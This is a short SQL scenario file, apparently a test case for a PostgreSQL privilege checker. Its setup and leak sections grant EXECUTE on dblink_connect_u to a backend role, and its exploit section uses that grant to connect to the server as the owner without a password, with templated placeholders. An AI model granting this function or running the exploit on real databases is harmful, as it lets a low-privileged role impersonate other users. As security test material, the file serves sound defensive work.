-- dblink without a password: the server connects to itself as anybody.
-- object: role:{backend}
-- object: public.dblink_connect_u(text)
-- extension: dblink
-- base: wiki
--- setup
RESET ROLE; CREATE EXTENSION dblink;
--- leak
RESET ROLE; GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO {backend};
--- exploit
SELECT dblink_connect_u('host={socket} port={port} dbname={db} user={owner}');
